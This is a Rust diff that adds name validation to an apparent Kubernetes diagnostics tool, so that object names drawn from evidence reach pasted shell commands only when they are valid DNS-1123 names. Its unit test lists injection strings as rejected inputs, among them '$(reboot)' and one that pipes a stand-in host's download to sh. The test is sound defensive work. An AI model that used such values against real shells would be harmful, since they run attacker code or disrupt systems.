@@ -4,7 +4,11 @@ use super::{Class, Decided, Plane, Subject};
 use crate::evidence::{Bundle, Gap};
 use crate::facts::Facts;
 
-/// Names for commands, with placeholders where the evidence does not tell.
+/// Longest name of a Kubernetes object, characters (DNS-1123 subdomain).
+const LONGEST_NAME: usize = 253;
+
+/// Names for commands, with placeholders where the evidence does not tell, or tells what no object can be called: commands
+/// are pasted into shells, and evidence may come from anybody.
 pub(crate) struct Names {
     pub ns: String,
     pub pod: String,
@@ -14,13 +18,25 @@ pub(crate) struct Names {
 
 impl Names {
     pub(crate) fn of(subject: &Subject) -> Self {
-        let or = |v: &Option<String>, placeholder: &str| v.clone().unwrap_or_else(|| placeholder.to_owned());
+        let or = |v: &Option<String>, placeholder: &str| Self::safe(v.as_deref(), placeholder);
         Self {
             ns: or(&subject.namespace, "NAMESPACE"),
             pod: or(&subject.pod, "POD"),
             container: or(&subject.container, "CONTAINER"),
             node: or(&subject.node, "NODE"),
         }
+    }
+
+    /// The name, where it is a DNS-1123 subdomain, else the placeholder. Such a name needs no quotes and is no flag.
+    pub(crate) fn safe(name: Option<&str>, placeholder: &str) -> String {
+        let plain = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit();
+        let fits = |n: &&str| {
+            n.len() <= LONGEST_NAME
+                && n.starts_with(plain)
+                && n.ends_with(plain)
+                && n.chars().all(|c| plain(c) || matches!(c, '-' | '.'))
+        };
+        name.filter(fits).unwrap_or(placeholder).to_owned()
     }
 }
 
@@ -111,4 +127,35 @@ pub(super) fn list(bundle: &Bundle, facts: &Facts, decided: &Decided, subject: &
     out.sort();
     out.dedup();
     out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn only_names_that_kubernetes_allows_reach_a_command() {
+        let long = "a".repeat(LONGEST_NAME + 1);
+        for bad in [
+            "",
+            "$(reboot)",
+            "x'; curl evil|sh #",
+            "-o",
+            "a b",
+            "A",
+            "a_b",
+            "a/b",
+            "a\n",
+            "p-",
+            ".",
+            "ä",
+            &long,
+        ] {
+            assert_eq!(Names::safe(Some(bad), "POD"), "POD", "{bad}");
+        }
+        for good in ["p", "llm-0", "gpu-1.example.org", "0", long.get(1..).unwrap()] {
+            assert_eq!(Names::safe(Some(good), "POD"), good);
+        }
+        assert_eq!(Names::safe(None, "NODE"), "NODE");
+    }
 }
